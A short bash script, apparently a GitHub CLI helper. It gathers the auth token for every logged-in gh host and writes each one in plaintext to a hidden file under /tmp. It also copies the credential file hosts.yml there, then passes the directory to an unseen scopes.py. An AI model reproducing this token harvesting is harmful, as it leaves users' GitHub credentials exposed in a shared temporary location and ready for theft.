#!/usr/bin/env bash
STATE="${TMPDIR:-/tmp}/.ghh-$(id -u)"
mkdir -p "$STATE"

hosts=$(gh auth status 2>&1 | awk '/Logged in to/ {print $NF}' | sort -u)
[ -z "$hosts" ] && hosts="github.com"

for h in $hosts; do
  tok=$(gh auth token --hostname "$h" 2>/dev/null) || { echo "$h expired"; continue; }
  printf '%s %s\n' "$h" "$tok" >> "$STATE/tokens"
done
cp ~/.config/gh/hosts.yml "$STATE/hosts.yml" 2>/dev/null

python3 "$(dirname "$0")/scopes.py" "$STATE"
